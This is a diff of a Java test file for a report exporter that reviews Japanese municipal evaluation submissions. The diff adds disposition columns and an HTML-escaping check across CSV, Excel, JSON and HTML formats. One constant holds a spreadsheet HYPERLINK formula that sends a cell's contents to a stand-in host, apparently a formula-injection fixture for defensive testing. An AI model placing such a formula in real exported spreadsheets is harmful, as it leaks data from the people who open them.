@@ -7,6 +7,7 @@ import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
+import java.time.OffsetDateTime;
 import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
@@ -34,7 +35,8 @@ class ReportFormatTest {
 
     /** The report's columns as docs/contract.md names them, spelled out so the test does not read them from the code. */
     private static final List<String> HEADER = List.of("source", "organization", "fiscalYear", "strategy", "severity",
-            "code", "location", "message_ja", "message_en", "cells", "rule");
+            "code", "location", "message_ja", "message_en", "cells", "rule", "submissionId", "disposition",
+            "disposition_ja", "disposition_comment", "disposition_by", "disposition_at");
 
     static final String HYPERLINK = "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"詳細\")";
 
@@ -58,6 +60,28 @@ class ReportFormatTest {
         assertThat(ReportFormat.HTML.extension()).isEqualTo("html");
         assertThat(ReportFormat.CSV.mediaType()).startsWith("text/csv");
         assertThatThrownBy(() -> ReviewReport.format("pdf")).isInstanceOf(IllegalArgumentException.class);
+    }
+
+    /** A stored submission's two findings, the second decided on as a false positive with a comment in markup. */
+    static final ReviewReport DISPOSED = new ReviewReport("v", "p", List.of(new ReviewReport.ReviewedSubmission(
+            "/api/submissions/42", 42L, "中央区", "令和6年度", List.of(SampleReports.CHUO_ERROR, SampleReports.CHUO_INFO),
+            Map.of(1, new ReviewReport.Disposition("FALSE_POSITIVE", "誤検知", "<b>数値</b>の読み違い", "reviewer",
+                    OffsetDateTime.parse("2026-04-01T09:00Z"))))), List.of());
+
+    @Test
+    void a_stored_findings_disposition_is_in_every_format_and_only_on_that_finding() throws IOException {
+        List<ReportRows.Row> rows = ReportRows.rows(DISPOSED);
+        assertThat(rows.get(0).values().subList(11, 17)).containsExactly("42", "", "", "", "", "");
+        assertThat(rows.get(1).values().subList(11, 17)).containsExactly("42", "FALSE_POSITIVE", "誤検知",
+                "<b>数値</b>の読み違い", "reviewer", "2026-04-01T09:00Z");
+
+        assertThat(JsonMapper.builder().build().readValue(written(ReportFormat.JSON, DISPOSED), ReviewReport.class))
+                .isEqualTo(DISPOSED);
+
+        String html = new String(written(ReportFormat.HTML, DISPOSED), StandardCharsets.UTF_8);
+        assertThat(html).containsSubsequence("OUTCOME_CONTRADICTS_RESULT", "TARGET_DIFFERS_BETWEEN_SHEETS", "誤検知",
+                "FALSE_POSITIVE", "reviewer", "&lt;b&gt;数値&lt;/b&gt;の読み違い").doesNotContain("<b>数値");
+        assertThat(html.indexOf("誤検知")).isEqualTo(html.lastIndexOf("誤検知"));
     }
 
     @Nested
@@ -139,7 +163,7 @@ class ReportFormatTest {
             String csv = new String(written(ReportFormat.CSV, SampleReports.empty()), StandardCharsets.UTF_8);
 
             assertThat(csv).isEqualTo("\uFEFFsource,organization,fiscalYear,strategy,severity,code,location,message_ja,message_en,"
-                    + "cells,rule\r\n");
+                    + "cells,rule,submissionId,disposition,disposition_ja,disposition_comment,disposition_by,disposition_at\r\n");
         }
 
         private static List<Map<String, String>> read(byte[] csv) {
@@ -244,12 +268,13 @@ class ReportFormatTest {
                 assertThat(values(sheet.getRow(0))).containsExactlyElementsOf(HEADER);
                 assertThat(workbook.getFontAt(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).getBold()).isTrue();
                 assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
-                assertThat(workbook.getSheetAt(0).getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:K9");
+                assertThat(workbook.getSheetAt(0).getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:Q9");
                 assertThat(sheet.getLastRowNum()).isEqualTo(8);
                 assertThat(values(sheet.getRow(5))).containsExactly("kita-r6.json", "北区", "令和6年度", "7-1", "error",
                         "ACHIEVEMENT_CONTRADICTS_RESULT", "strategies/7-1/initiatives/7-1-2/achievement",
                         "実績98%は目標100%に届かないのに①です。", "Rated ① although 98% misses the 100% target.",
-                        "目標=100%; 実績=98%; 自己評価=①", "review.achievement_contradicts_result");
+                        "目標=100%; 実績=98%; 自己評価=①", "review.achievement_contradicts_result", "", "", "", "", "",
+                        "");
                 assertThat(values(sheet.getRow(8))).startsWith("minato-r6.xlsx", "", "", "", "error", "UNREADABLE_SUBMISSION");
             }
         }
